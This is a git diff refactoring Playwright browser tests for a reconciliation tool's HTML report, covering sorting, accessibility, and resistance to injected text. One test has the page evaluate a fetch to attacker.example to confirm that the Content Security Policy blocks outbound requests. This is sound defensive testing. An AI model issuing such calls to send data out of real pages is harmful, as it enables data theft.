@@ -1,22 +1,18 @@
 /** The report of a reconciliation in a browser: it needs no network, sorts and filters, prints whole, and no text in it does anything. */
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Browser, BrowserContextOptions } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { BrowserContextOptions, Page } from 'playwright-core';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { Finding } from '../../src/reconcile/finding.js';
-import {
-  reportBeginning,
-  reportEnd,
-  reportFinding,
-  REPORT_FINDINGS_MAX,
-} from '../../src/reconcile/report/document.js';
+import { reportBeginning, reportEnd, reportFinding } from '../../src/reconcile/report/document.js';
+import { REPORT_FINDINGS_MAX } from '../../src/reconcile/report/document.js';
 import { shownFinding } from '../../src/reconcile/shown.js';
 import { readAsset } from '../../src/runtime/asset.js';
 import { findingOf, HOSTILE, lineOf, operationOf, resultOf } from '../reconcile/given.js';
 import { foundByAxe } from './axe.js';
-import { CHROMIUM, openBrowser, openTab, type Tab } from './browser.js';
+import { CHROMIUM, openBrowser, openTab } from './browser.js';
 import { IS_SOAK } from '../support/soak.js';
+import { testFolder } from '../support/test-folder.js';
 
 const PAGE_ROWS = 100;
 /** As many as it takes, or a tenth of that. */
@@ -29,14 +25,10 @@ function documentOf(findings: readonly Finding[], leftOut = 0): string {
     ['File', 'bank.csv'],
     ['Until', HOSTILE.join(' ')],
   ] as const;
+  const how = { where: [], hasNegatives: false, currency: null, decimals: new Map() };
   return [
     reportBeginning(`Reconciliation of ${HOSTILE.join(' ')}`, facts, resultOf(), parts),
-    ...findings.map((finding, at) =>
-      reportFinding(
-        shownFinding(finding, { where: [], hasNegatives: false, currency: null, decimals: new Map() }),
-        at === 0,
-      ),
-    ),
+    ...findings.map((finding, at) => reportFinding(shownFinding(finding, how), at === 0)),
     reportEnd(leftOut, parts),
   ].join('');
 }
@@ -52,24 +44,14 @@ const FEW = (['ambiguous', 'amount_differs', 'pending', 'only_here'] as const).m
 );
 
 describe.skipIf(CHROMIUM === undefined)('the report (skipped where there is no chromium)', () => {
-  let browser: Browser;
-  let folder: string;
-  beforeAll(async () => {
-    folder = mkdtempSync(join(tmpdir(), 'svc-report-'));
-    browser = await openBrowser();
-  });
-  afterAll(() => rmSync(folder, { recursive: true, force: true }));
+  beforeAll(openBrowser);
 
-  async function opened(
-    findings: readonly Finding[],
-    leftOut = 0,
-    how: BrowserContextOptions = {},
-  ): Promise<Tab> {
-    const path = join(folder, 'report.html');
+  function opened(findings: readonly Finding[], leftOut = 0, how: BrowserContextOptions = {}) {
+    const path = join(testFolder(), 'report.html');
     writeFileSync(path, documentOf(findings, leftOut));
-    return openTab(browser, `file://${path}`, how);
+    return openTab(`file://${path}`, how);
   }
-  const column = (tab: Tab, at: number): Promise<string[]> =>
+  const column = (tab: { page: Page }, at: number): Promise<string[]> =>
     tab.page.locator(`.findings tbody tr td:nth-child(${String(at)})`).allInnerTexts();
 
   it('sorts money as money, either way, and goes back to the worst first', async () => {
@@ -105,32 +87,24 @@ describe.skipIf(CHROMIUM === undefined)('the report (skipped where there is no c
   });
 
   /** Colours do not depend on the width: all of them are looked at by `npm run test:soak`. */
-  const looks = [
-    ['light', 1280],
-    ['dark', 360],
-    ['dark', 1280],
-    ['light', 360],
-  ] as const;
-  it.each(IS_SOAK ? looks : looks.slice(0, 2))(
-    'has nothing that axe finds: %s, %i wide',
-    async (colorScheme, width) => {
-      const tab = await opened(FEW, 7, { colorScheme, viewport: { width, height: 800 } });
-      expect(await foundByAxe(tab.page)).toEqual([]);
-      expect(await tab.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
-      expect(await tab.page.locator('.left-out').innerText()).toContain('Of 11 findings the first 4');
-    },
-  );
+  const looks = ['light 1280', 'dark 360', 'dark 1280', 'light 360'].slice(0, IS_SOAK ? 4 : 2);
+  it.each(looks)('has nothing that axe finds: %s wide', async (look) => {
+    const [colorScheme, width] = look.split(' ') as ['light' | 'dark', string];
+    const tab = await opened(FEW, 7, { colorScheme, viewport: { width: Number(width), height: 800 } });
+    expect(await foundByAxe(tab.page)).toEqual([]);
+    expect(await tab.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
+    expect(await tab.page.locator('.left-out').innerText()).toContain('Of 11 findings the first 4');
+  });
 
   it('lets no text in it do anything, wherever it stands', async () => {
-    const findings = HOSTILE.map((text, at) =>
-      findingOf('amount_differs', {
+    const findings = HOSTILE.map((text, at) => {
+      const said = { status: text, currency: text };
+      return findingOf('amount_differs', {
         here: [lineOf({ line: at, reference: text, bankReference: text, id: text, date: text })],
-        there: [
-          operationOf({ id: text, reference: text, status: text, bankReference: text, currency: text }),
-        ],
+        there: [operationOf({ ...{ id: text, reference: text, bankReference: text }, ...said })],
         tolerances: [text],
-      }),
-    );
+      });
+    });
     const tab = await opened(findings);
     const requests: string[] = [];
     tab.page.on('request', (request) => requests.push(request.url()));
@@ -148,10 +122,8 @@ describe.skipIf(CHROMIUM === undefined)('the report (skipped where there is no c
 
   it('lets nothing be loaded or sent, even by a script of its own', async () => {
     const tab = await opened(FEW);
-    const said = await tab.page.evaluate<string>(
-      `fetch('https://attacker.example/').then(() => 'sent', () => 'refused')`,
-    );
-    expect(said).toBe('refused');
+    const sending = `fetch('https://attacker.example/').then(() => 'sent', () => 'refused')`;
+    expect(await tab.page.evaluate(sending)).toBe('refused');
     expect(tab.wrong.join()).toContain('Content Security Policy');
   });
 
